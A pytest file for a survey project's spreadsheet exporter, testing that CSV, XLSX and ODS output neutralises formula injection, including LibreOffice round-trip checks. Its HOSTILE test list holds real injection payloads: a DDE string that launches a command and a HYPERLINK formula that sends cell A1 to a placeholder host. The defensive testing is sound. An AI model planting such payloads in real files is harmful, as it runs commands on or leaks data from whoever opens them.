"""Exports never run a formula (issue 13, finding 2): text is text in CSV, XLSX and ODS.

A respondent's answer or a roster name such as ``=HYPERLINK(…)`` must reach the pilot's
spreadsheet as the text typed, never as a formula; numbers given as numbers (a negative
difference, a count) stay numbers. Checked with openpyxl, with the ODS XML itself and,
where LibreOffice is installed, by converting each file back to CSV headless.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
from defusedxml import ElementTree

from bilan.interop.spreadsheets import Sheet, csv_table, csv_text, write_sheets

# The dangerous starts OWASP lists.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.test/?"&A1;"Cliquez")',
    "=2+3",
    "+2+3",
    "-2+3",
    "@SUM(2;3)",
    "\t=2+3",
    "\r=2+3",
]
# Not a formula: "#N/A" would be an error value in XLSX if openpyxl guessed it, so it is checked there too.
HARMLESS = ["Collège Camus", "#N/A", "a - b", " =2+3 (espace devant)", "2+3", "'déjà cité", ""]
NUMBERS = [-7, -2.5, 0, 12, 53.125]
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def _sheets():
    header = ["=titre", "-colonne", "n"]
    rows = [[text, "libre", -1] for text in HOSTILE + HARMLESS] + [["nombre", "", n] for n in NUMBERS]
    return [Sheet("Réponses", header, rows)]


def test_xlsx_text_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    _, _, data = write_sheets("t", _sheets(), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        worksheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in worksheet_xml and "<f " not in worksheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Réponses"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    assert [c.value for c in sheet[1]] == ["=titre", "-colonne", "n"]
    column = [c.value for c in sheet["A"][1:len(HOSTILE) + len(HARMLESS) + 1]]
    assert column == [t or None for t in HOSTILE + HARMLESS]
    # Editing a hostile cell in the spreadsheet keeps it text (quote prefix); a harmless one is left plain.
    assert all(c.quotePrefix for c in sheet["A"][1:len(HOSTILE) + 1])
    assert not sheet.cell(row=len(HOSTILE) + 2, column=1).quotePrefix
    numbers = list(sheet["C"][len(HOSTILE) + len(HARMLESS) + 1:])
    assert [c.value for c in numbers] == NUMBERS and {c.data_type for c in numbers} == {"n"}


def test_xlsx_drops_control_characters_instead_of_failing():
    _, _, data = write_sheets("t", [Sheet("S", ["a"], [["bip\x07=2+3"]])], "xlsx")
    assert openpyxl.load_workbook(io.BytesIO(data))["S"]["A2"].value == "bip=2+3"


def test_ods_text_cells_are_strings_and_numbers_floats():
    _, _, data = write_sheets("t", _sheets(), "ods")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read("content.xml"))
    rows = root.iter(f"{TABLE}table-row")
    cells = [row.findall(f"{TABLE}table-cell") for row in rows]
    assert not [c for row in cells for c in row if c.get(f"{TABLE}formula")]
    for row in cells[1:len(HOSTILE) + 1]:
        assert row[0].get(f"{OFFICE}value-type") == "string"
    numbers = [row[2] for row in cells[len(HOSTILE) + len(HARMLESS) + 1:]]
    assert [c.get(f"{OFFICE}value-type") for c in numbers] == ["float"] * len(NUMBERS)
    assert [float(c.get(f"{OFFICE}value")) for c in numbers] == NUMBERS


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralises_each_dangerous_start_with_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_other_text_alone(text):
    assert csv_text(text) == text


def test_csv_leaves_numbers_as_numbers_negative_ones_included():
    _, _, data = write_sheets("t", _sheets(), "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["'=titre", "'-colonne", "n"]
    assert [row[0] for row in rows[1:len(HOSTILE) + 1]] == ["'" + t for t in HOSTILE]
    assert [row[2] for row in rows[len(HOSTILE) + len(HARMLESS) + 1:]] == ["-7", "-2,5", "0", "12", "53,125"]
    assert rows[1][2] == "-1"


def test_csv_table_is_the_one_writer_for_other_delimiters_too():
    text = csv_table([["code", "citation"], ["ia", "=2+3"], ["n", -4]], delimiter=",")
    assert text == "code,citation\r\nia,'=2+3\r\nn,-4\r\n"


# --------------------------------------------------------------- LibreOffice (required in CI, .ci/run installs it)

SOFFICE = shutil.which("soffice")
# On a developer machine without LibreOffice these two are skipped with the reason; with CI set
# they run and fail if it is missing.
WITHOUT_LIBREOFFICE = SOFFICE is None and not os.environ.get("CI")


def _libreoffice_csv(path, tmp_path, infilter=None):
    """``path`` opened by LibreOffice and saved as CSV (UTF-8, semicolons): what a person sees."""
    out = tmp_path / "out"
    command = [SOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
               "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1", "--outdir", str(out), str(path)]
    if infilter:
        command[2:2] = [f"--infilter={infilter}"]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    text = (out / (path.stem + ".csv")).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.skipif(WITHOUT_LIBREOFFICE, reason="LibreOffice (soffice) n'est pas installé")
@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_libreoffice_shows_the_text_not_a_computed_value(fmt, tmp_path):
    filename, _, data = write_sheets("export", _sheets(), fmt)
    path = tmp_path / filename
    path.write_bytes(data)
    rows = _libreoffice_csv(path, tmp_path, infilter="CSV:59,34,76,1" if fmt == "csv" else None)
    shown = [row[0] for row in rows[1:len(HOSTILE) + 1]]
    prefix = "'" if fmt == "csv" else ""
    assert shown[2:6] == [prefix + text for text in ("=2+3", "+2+3", "-2+3", "@SUM(2;3)")]
    assert "5" not in shown and "1" not in shown  # =2+3 and -2+3 computed would read 5 and 1
    assert shown[0] == prefix + HOSTILE[0] and shown[1] == prefix + HOSTILE[1]
    assert rows[0][0] == prefix + "=titre"
    numbers = [row[2] for row in rows[len(HOSTILE) + len(HARMLESS) + 1:]]
    assert numbers[0] == "-7"  # a number stays a number


@pytest.mark.skipif(WITHOUT_LIBREOFFICE, reason="LibreOffice (soffice) n'est pas installé")
def test_libreoffice_would_run_an_unneutralised_csv_formula(tmp_path):
    """The check above can fail: the same CSV written raw is computed by LibreOffice."""
    path = tmp_path / "brut.csv"
    path.write_text("a\r\n=2+3\r\n", encoding="utf-8")
    assert _libreoffice_csv(path, tmp_path, infilter="CSV:59,34,76,1")[1] == ["5"]
